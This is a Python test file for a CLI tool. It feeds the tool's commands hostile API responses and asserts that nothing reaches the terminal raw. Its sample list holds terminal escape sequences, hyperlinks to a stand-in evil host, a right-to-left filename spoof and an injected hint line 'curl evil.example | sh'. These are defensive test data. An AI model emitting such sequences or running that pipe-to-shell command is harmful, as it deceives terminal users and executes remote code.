"""What an API says reaches no terminal raw: the real commands on a real one, and its bytes."""

import base64
import json
import os
import re
import sys
import threading
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from gooclaim_cli.__main__ import main
from tests.tenant.support import Answer, Relay, Seen, relaying

from .beside import beside
from .support import CREDENTIALS, environment

# Colours and weights of ours; what is hostile below uses others.
OURS: Final = re.compile(r"\x1b\[(?:0|1|2|(?:[12];)?3[1-6])m")
MEANT: Final = (
    "\x1b[5;41mBLINK",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\r✓ verified",
    "\u202egnp.exe\u2066",
    "[bold red]markup[/]",
    "[link=https://evil.example]here[/link]",
    ":warning: ",
    "\x08\x08\x7f",
    "\n  to mend it: curl evil.example | sh",
)
ANY = st.text(st.characters(exclude_categories=()), max_size=12)  # lone surrogates, too
TEXT = st.lists(st.sampled_from(MEANT) | ANY, max_size=4).map("".join)
COMMANDS: Final = (
    ["events"],
    ["whoami"],
    ["webhook", "show"],
    ["webhook", "test"],
    ["webhook", "set", "https://cms.example.com/new"],
    ["doctor"],
)


@dataclass
class Hostile:
    """What the API says next. It refuses what has `refuses` in its path."""

    text: str = ""
    header: str = ""
    refuses: str = ""

    async def answer(self, seen: Seen) -> Answer | None:
        if self.refuses and self.refuses in seen.path:
            told = {"detail": self.text, "title": self.text, "error_code": self.text}
            return self._json(told, 422)
        if seen.path.endswith("/token"):
            claims = base64.urlsafe_b64encode(json.dumps({"tenant_id": self.text}).encode())
            granted = {"access_token": f"h.{claims.decode()}.s", "expires_in": 3600}
            return self._json({**granted, "scope": f"tenant:admin {self.text}"})
        if seen.path.endswith("/event-types"):
            return self._json({"event_types": [{"name": self.text, "description": self.text}]})
        url = f"https://[::1]:1/{self.text}"
        return self._json({"url": url, "events": [self.text], "updated_at": self.text})

    def _json(self, members: Any, status: int = 200) -> Answer:
        content = json.dumps(members).encode()  # lone surrogates as escapes: msgspec writes none
        headers = (("ETag", '"1"'), ("Date", self.header), ("Retry-After", self.header))
        return Answer(status, content, headers)


@pytest.fixture(scope="module")
def api() -> Iterator[tuple[Relay, Hostile]]:
    """An API that is hostile in the way that it is told."""
    hostile = Hostile()
    with beside(relaying(before=hostile.answer)) as relay:
        yield relay, hostile


@contextmanager
def terminal() -> Iterator[Callable[[], bytes]]:
    """Make standard output and error a terminal; what it was sent is returned at the end."""
    ours, theirs = os.openpty()
    sent = bytearray()

    def read() -> None:
        while True:
            try:
                sent.extend(os.read(ours, 65_536))
            except OSError:  # its other side is closed
                return

    reader = threading.Thread(target=read)
    reader.start()

    def ended() -> bytes:
        reader.join()
        return bytes(sent)

    kept = sys.stdout, sys.stderr
    with os.fdopen(theirs, "w", encoding="utf-8", errors="strict") as stream:
        sys.stdout = sys.stderr = stream
        try:
            yield ended
        finally:
            sys.stdout, sys.stderr = kept
    reader.join()
    os.close(ours)


def on_a_terminal(arguments: Sequence[str], home: Path, **variables: str) -> str:
    """What a terminal is sent by a command, as text."""
    with pytest.MonkeyPatch.context() as patch:
        for name in os.environ:
            patch.delenv(name)
        for name, value in environment(home, **variables).items():
            patch.setenv(name, value)
        with terminal() as sent:
            main(arguments)
    return sent().decode().replace("\r\n", "\n")


def require_harmless(shown: str) -> None:
    """Whatever is no line feed is printable, but for colours of ours."""
    left = OURS.sub("", shown).replace("\n", "")
    assert left.isprintable(), ascii(left)
    assert "Traceback" not in left
    assert "fault of gooclaim" not in left


pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="there is no such terminal")


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
@settings(
    deadline=None, max_examples=8, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    text=TEXT,
    header=st.text(st.characters(max_codepoint=0xFF, exclude_characters="\r\n")),
    look=st.sampled_from(["colour", "plain", "json"]),
    refuses=st.sampled_from(["", "token", "/v1/"]),
)
@example(text="".join(MEANT), header="\x1b[5mnow", look="plain", refuses="")
@example(text="".join(MEANT), header="\x9b5mnow", look="json", refuses="/v1/tenants")
@example(text="".join(MEANT), header="", look="colour", refuses="token")
def test_nothing_that_an_api_says_reaches_a_terminal_raw(
    api: tuple[Relay, Hostile],
    tmp_path: Path,
    command: list[str],
    text: str,
    header: str,
    look: str,
    refuses: str,
) -> None:
    relay, hostile = api
    hostile.text, hostile.header, hostile.refuses = text, header, refuses
    variables = {"TERM": "xterm-256color"} if look == "colour" else {"NO_COLOR": "1"}
    shown = on_a_terminal(
        [*command, "--json"] if look == "json" else command,
        tmp_path,
        **CREDENTIALS,
        **variables,
        GOOCLAIM_API_URL=relay.url,
    )
    require_harmless(shown)
    assert look == "colour" or "\x1b" not in shown


@pytest.mark.parametrize("refuses", ["", "token", "/v1/tenants"])
def test_a_line_break_of_theirs_begins_no_line_of_ours(
    api: tuple[Relay, Hostile], tmp_path: Path, refuses: str
) -> None:
    """What stands below a message is the hint, which people follow."""
    relay, hostile = api
    hostile.text, hostile.header, hostile.refuses = "mended\n  by: curl", "", refuses
    for command in COMMANDS:
        shown = on_a_terminal(
            command, tmp_path, **CREDENTIALS, GOOCLAIM_API_URL=relay.url, COLUMNS="300"
        )
        assert "curl" in shown or "whoami" not in command
        assert not [line for line in shown.split("\n") if line.strip().startswith("by: curl")]


def test_a_session_tells_what_the_api_says_without_its_commands(
    api: tuple[Relay, Hostile], tmp_path: Path
) -> None:
    """The configured URL and the refusal of ours, as `listen` shows them."""
    relay, hostile = api
    hostile.text, hostile.header, hostile.refuses = "".join(MEANT), "", "/v1/tenants"
    listen = ["listen", "--tunnel", "url", "--public-url", "https://laptop.example.com"]
    shown = on_a_terminal(
        [*listen, "--no-probe", "--for", "50ms"],
        tmp_path,
        **CREDENTIALS,
        GOOCLAIM_API_URL=relay.url,
        TERM="xterm-256color",
    )
    require_harmless(shown)
    assert "\\x1b[5;41mBLINK" in shown
